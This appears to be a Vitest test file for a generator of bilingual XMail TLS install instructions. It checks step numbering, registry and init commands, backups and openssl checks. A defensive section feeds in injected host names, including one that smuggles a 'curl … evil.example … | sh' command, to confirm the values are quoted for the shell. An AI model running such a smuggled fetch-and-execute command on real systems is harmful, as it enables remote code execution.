import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { createInstallDocument, serializeInstallText, type InstallFacts } from './install-steps.ts';
import type { BundleFileRole } from './layout.ts';

const full: InstallFacts['files'] = (
  [
    ['INSTALL.ja.txt', 'install'],
    ['INSTALL.en.txt', 'install'],
    ['MailRoot/server.key', 'server-key'],
    ['MailRoot/server.cert', 'server-cert'],
    ['MailRoot/certs.pem', 'certs-pem'],
    ['MailRoot/certs/153054dd.0', 'certs-hash'],
    ['MailRoot/certs/6aebb30b.0', 'certs-hash'],
    ['server.tab.patch', 'server-tab-patch'],
    ['startup/xmail-cmdline.txt', 'command-line'],
    ['startup/xmail-init-script-line.txt', 'init-script-line'],
    ['startup/xmail-registry.reg', 'reg-native'],
    ['startup/xmail-registry-32bit-xmail-on-64bit-windows.reg', 'reg-wow64'],
    ['clients/ca.cer', 'ca-der'],
    ['clients/ca.pem', 'ca-pem'],
    ['MANIFEST.sha256', 'manifest'],
  ] as Array<[string, BundleFileRole]>
).map(([path, role]) => ({ path, role }));

const merged: InstallFacts['startup'] = { kind: 'merged', before: '-Md -Pl', after: '-Md -Pl -X-', added: ['-X-'], removed: [] };
const facts = (over: Partial<InstallFacts> = {}): InstallFacts => ({
  os: 'windows', hostNames: ['mail.example.com'], files: full, trust: 'private-ca', startup: merged, ...over,
});
const withoutStartupFiles = full.filter((f) => !['command-line', 'init-script-line', 'reg-native', 'reg-wow64'].includes(f.role));

function render(f: InstallFacts, lang: 'ja' | 'en') {
  return serializeInstallText(createInstallDocument(f, lang), f.os);
}

describe('INSTALL text', () => {
  it.each(['ja', 'en'] as const)('%s: CRLF only for Windows, LF only for Unix', (lang) => {
    const win = render(facts({ os: 'windows' }), lang);
    expect(win.split('\r\n').length).toBeGreaterThan(20);
    expect(win.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const unix = render(facts({ os: 'unix' }), lang);
    expect(unix).not.toContain('\r');
    expect(unix.endsWith('\n')).toBe(true);
  });

  it.each(['ja', 'en'] as const)('%s: steps are numbered 1..n without gaps', (lang) => {
    const numbers = [...render(facts(), lang).matchAll(/^(\d+)\. /gm)].map((m) => Number(m[1]));
    expect(numbers).toEqual(numbers.map((_, i) => i + 1));
    expect(numbers.length).toBeGreaterThanOrEqual(6);
  });

  it('Windows: names both registry files, reg import and net stop/start; Unix: init script and /etc/init.d/xmail restart', () => {
    const win = render(facts({ os: 'windows' }), 'en');
    expect(win).toContain('startup\\xmail-registry.reg');
    expect(win).toContain('startup\\xmail-registry-32bit-xmail-on-64bit-windows.reg');
    expect(win).toMatch(/reg import "%USERPROFILE%\\xmail-bundle\\startup\\xmail-registry\.reg"/);
    expect(win).toContain('net stop XMail');
    expect(win).toContain('net start XMail');
    expect(win).not.toContain('/etc/init.d/xmail restart');
    const unix = render(facts({ os: 'unix' }), 'en');
    expect(unix).toContain('XMAIL_CMD_LINE');
    expect(unix).toContain('/etc/init.d/xmail restart');
    expect(unix).not.toContain('net stop');
    expect(unix).toContain("chmod 600 '/var/MailRoot/server.key");
  });

  it('Japanese uses the seed\'s terms', () => {
    const ja = render(facts(), 'ja');
    for (const term of ['秘密鍵', 'サーバー証明書', '起動オプション', 'レジストリ', '再起動', 'バックアップ']) expect(ja).toContain(term);
  });

  it('lists the certs/ folder once with its file count, and every other file by path', () => {
    const en = render(facts({ os: 'unix' }), 'en');
    expect(en.match(/MailRoot\/certs\/\n/g)).toHaveLength(1);
    expect(en).toContain('2 files');
    for (const f of full.filter((x) => x.role !== 'certs-hash')) expect(en).toContain(`  ${f.path}\n`);
  });

  it('verification commands use the first host name and the CA file', () => {
    const en = render(facts({ os: 'unix' }), 'en');
    expect(en).toContain('openssl s_client -connect mail.example.com:465 -servername mail.example.com -CAfile clients/ca.pem');
    expect(en).toContain('-starttls smtp');
  });

  it.each(['windows', 'unix'] as const)('%s: without a command-line change there is no startup step, no restart and no startup backup', (os) => {
    const { startup: _none, ...rest } = facts({ os, files: withoutStartupFiles });
    for (const lang of ['ja', 'en'] as const) {
      const text = render(rest, lang);
      expect(text).not.toContain('reg import');
      expect(text).not.toContain('reg export');
      expect(text).not.toContain('/etc/init.d/xmail');
      expect(text).not.toContain('net stop');
      expect(text).not.toContain(lang === 'ja' ? 'XMail を再起動する' : 'Restart XMail');
    }
  });

  it.each(['windows', 'unix'] as const)('%s: the merged line is described as the user\'s line with only the TLS switches changed', (os) => {
    const en = render(facts({ os }), 'en');
    expect(en).toContain('Only the TLS switches change (added: -X-; removed: none)');
    expect(en).toContain('Before: -Md -Pl');
    expect(en).toContain('After: -Md -Pl -X-');
    const ja = render(facts({ os }), 'ja');
    expect(ja).toContain('追加: -X-、削除: なし');
    expect(ja).toContain('変更前: -Md -Pl');
  });

  it.each(['windows', 'unix'] as const)('%s: without the user\'s line, INSTALL lists the switches and never a made-up line', (os) => {
    const f = facts({ os, files: withoutStartupFiles, startup: { kind: 'switches', add: ['-P-', '-C-'], remove: ['-B-', '-W-', '-X-'] } });
    const en = render(f, 'en');
    expect(en).toContain('Add these switches to your command line, keeping every other option: -P- -C-');
    expect(en).toContain('Remove these switches if your command line has them: -B- -W- -X-');
    // No .reg of ours to import (the undo imports only the administrator's own export from the backup).
    expect(en).not.toMatch(/XMAIL_CMD_LINE=""|reg import (?!"%B%\\xmail)/);
    expect(en).toContain(os === 'windows' ? 'net stop XMail' : '/etc/init.d/xmail restart');
    const ja = render(f, 'ja');
    expect(ja).toContain('次のスイッチを追加してください(ほかのオプションはそのまま残します): -P- -C-');
    expect(ja).toContain('次のスイッチがあれば、削除してください: -B- -W- -X-');
  });

  it('backups name only the files the bundle replaces', () => {
    const only = (roles: string[]) => full.filter((f) => roles.includes(f.role));
    const { startup: _none, ...clientCa } = facts({ os: 'unix', files: only(['install', 'certs-pem', 'certs-hash', 'server-tab-patch', 'manifest']) });
    const en = render(clientCa, 'en');
    expect(en).toContain('Copy server.tab, certs.pem, the certs folder from MailRoot');
    expect(en).toContain("cp -p '/var/MailRoot/server.tab' '/var/MailRoot/certs.pem' \"${B:?}\"/");
    expect(en).not.toMatch(/server\.key|server\.cert/);
    const ja = render(clientCa, 'ja');
    expect(ja).toContain('MailRoot の server.tab、certs.pem、certs フォルダー を、今回のための新しいフォルダーに');
    expect(ja).not.toContain('server.key');
  });

  it('says nothing about host names when none were given, and names what a layered bundle builds on', () => {
    const en = render(facts({ hostNames: [], needsServerCert: true }), 'en');
    expect(en).not.toContain('Host names');
    expect(en).not.toContain('(none given)');
    expect(en).toContain('Builds on: the private key and server certificate already in MailRoot');
    const ja = render(facts({ hostNames: [], needsServerCert: true }), 'ja');
    expect(ja).not.toContain('対象ホスト');
    expect(ja).toContain('前提: この一式は、MailRoot にすでにある秘密鍵とサーバー証明書');
  });

  it('a merged server.tab is copied, not patched by hand', () => {
    const files = [...full, { path: 'MailRoot/server.tab', role: 'server-tab' as const }];
    const en = render(facts({ files }), 'en');
    expect(en).toContain('replaced server.tab in MailRoot');
    expect(en).not.toContain('Apply the lines in server.tab.patch');
  });

  it.each([
    ['self-signed', 'self-signed'],
    ['public', 'public CA'],
    ['private-ca', 'Trusted Root Certification Authorities'],
  ] as const)('clients step for %s trust mentions %j', (trust, text) => {
    expect(render(facts({ trust }), 'en')).toContain(text);
  });

  // Issue 17 item 8: INSTALL for a bundle without a key, the unzipped folder, openssl on Windows.
  describe('issue 17 item 8', () => {
    const roles = (keep: string[]) => full.filter((f) => keep.includes(f.role));
    const modeSwitches: InstallFacts['startup'] = { kind: 'switches', add: ['-P-'], remove: ['-X-'] };
    const keyless = [
      ['TLS-mode bundle', { files: roles(['install', 'server-tab-patch', 'manifest']), startup: modeSwitches, needsServerCert: true }],
      ['TLS-mode bundle with the user\'s line', { files: roles(['install', 'server-tab-patch', 'command-line', 'init-script-line', 'reg-native', 'reg-wow64', 'manifest']), needsServerCert: true }],
      ['client-CA bundle', { files: roles(['install', 'certs-pem', 'certs-hash', 'server-tab-patch', 'manifest']), startup: undefined, needsServerCert: true }],
    ] as const;
    const cases = keyless.flatMap(([name, over]) => (['windows', 'unix'] as const).flatMap((os) => (['ja', 'en'] as const).map((lang) => ({ name, over, os, lang }))));

    it.each(cases)('$name ($os, $lang): says nothing about re-reading a key it does not carry, and hashes no server.key', ({ over, os, lang }) => {
      expect.hasAssertions();
      const text = render(facts({ os, ...over }), lang);
      expect(text).not.toMatch(/key, certificate and server\.tab are re-read|秘密鍵・サーバー証明書・server\.tab は再起動しなくても読み直され/);
      expect(text).not.toMatch(/reads the key and certificate on every connection|秘密鍵とサーバー証明書は接続のたびに/);
      expect(text).not.toMatch(/certutil -hashfile \S*server\.key/);
    });

    it.each(['windows', 'unix'] as const)('%s: a bundle with a key shows the checksum check on a file that is not the private key', (os) => {
      expect.hasAssertions();
      for (const lang of ['ja', 'en'] as const) expect(render(facts({ os }), lang)).not.toMatch(/(certutil -hashfile|sha256sum) \S*server\.key/);
    });

    it.each(cases)('$name ($os, $lang): says to cd into the unzipped folder before any command that uses a bundle path', ({ over, os, lang }) => {
      expect.hasAssertions();
      const doc = createInstallDocument(facts({ os, ...over }), lang);
      const commands = doc.steps.flatMap((s) => s.commands ?? []);
      const cd = commands.findIndex((c) => c === (os === 'windows' ? 'cd /d "%USERPROFILE%\\xmail-bundle"' : 'cd ~/xmail-bundle'));
      const relative = commands.findIndex((c) => /(^| |\(|"|')(MailRoot|startup|clients)[\\/]|^(copy \/Y|cp) MailRoot/.test(c));
      expect(cd).toBeGreaterThanOrEqual(0);
      if (relative >= 0) expect(cd).toBeLessThan(relative);
    });

    it.each(['ja', 'en'] as const)('Windows (%s): the check does not assume openssl exists: says where it comes from and gives the PowerShell way', (lang) => {
      expect.hasAssertions();
      const win = render(facts({ os: 'windows' }), lang);
      expect(win).toContain('Git for Windows');
      expect(win).toContain('Test-NetConnection mail.example.com -Port 995');
      expect(win).toMatch(/New-Object Net\.Security\.SslStream\(.*AuthenticateAsClient\('mail\.example\.com'\)/);
      const unix = render(facts({ os: 'unix' }), lang);
      expect(unix).not.toContain('Test-NetConnection');
    });

    it('Windows: a host name that is not a plain DNS name or address gets no PowerShell line', () => {
      expect.hasAssertions();
      const win = render(facts({ os: 'windows', hostNames: ['mail.example.com;calc'] }), 'en');
      expect(win).not.toContain('Test-NetConnection');
      expect(win).not.toContain('SslStream');
    });
  });

  // Issue 12 item 2: host names that were never checked (read from a foreign certificate) must stay
  // single literal arguments even if they reach this layer; line breaks never reach the file.
  describe('values in commands are quoted for the target shell', () => {
    const evil = 'mail.example.com;curl -s https://evil.example/x|sh;echo';

    it('Unix: sh reads each check command as openssl with exactly the intended arguments', () => {
      const doc = createInstallDocument(facts({ os: 'unix', hostNames: [evil] }), 'en');
      const commands = doc.steps.flatMap((s) => s.commands ?? []).filter((c) => c.startsWith('openssl '));
      expect(commands).toHaveLength(3);
      const script = commands.map((c) => `set -- ${c.slice('openssl '.length)}; printf '%s\\0' "$@"; printf '\\n'`).join('\n');
      const argv = execFileSync('sh', ['-c', script], { encoding: 'utf8', timeout: 10_000 }).split('\n').slice(0, -1).map((l) => l.split('\0').slice(0, -1));
      expect(argv).toEqual([
        ['s_client', '-connect', `${evil}:465`, '-servername', evil, '-CAfile', 'clients/ca.pem'],
        ['s_client', '-connect', `${evil}:25`, '-starttls', 'smtp', '-servername', evil, '-CAfile', 'clients/ca.pem'],
        ['s_client', '-connect', `${evil}:995`, '-CAfile', 'clients/ca.pem'],
      ]);
    });

    it('Windows: the value is one double-quoted argument', () => {
      const text = render(facts({ os: 'windows', hostNames: [evil] }), 'en');
      expect(text).toContain(`openssl s_client -connect "${evil}:465" -servername "${evil}" -CAfile clients\\ca.pem`);
    });

    it('IPv6 is bracketed and sent without SNI; a wildcard is skipped for a concrete name', () => {
      const v6 = render(facts({ os: 'unix', hostNames: ['2001:db8::1'] }), 'en');
      expect(v6).toContain("openssl s_client -connect '[2001:db8::1]:465' -CAfile clients/ca.pem");
      const wild = render(facts({ os: 'unix', hostNames: ['*.example.com', 'mail.example.com'] }), 'en');
      expect(wild).toContain('openssl s_client -connect mail.example.com:465 -servername mail.example.com');
    });

    it.each(['windows', 'unix'] as const)('%s: a host name with CR/LF is refused in a command, shown inert in prose', (os) => {
      const f = facts({ os, hostNames: ['mail.example.com\r\n7. run evil'] });
      expect(() => createInstallDocument(f, 'ja')).toThrow(expect.objectContaining({ code: 'BUNDLE_COMMAND_VALUE_INVALID' }));
      const doc = createInstallDocument({ ...f, files: f.files.filter((x) => x.role !== 'server-cert') }, 'ja');
      const text = serializeInstallText(doc, os);
      expect(text).toContain('mail.example.com<U+000D><U+000A>7. run evil');
      expect(text).not.toMatch(/^7\. run/m);
    });
  });
});
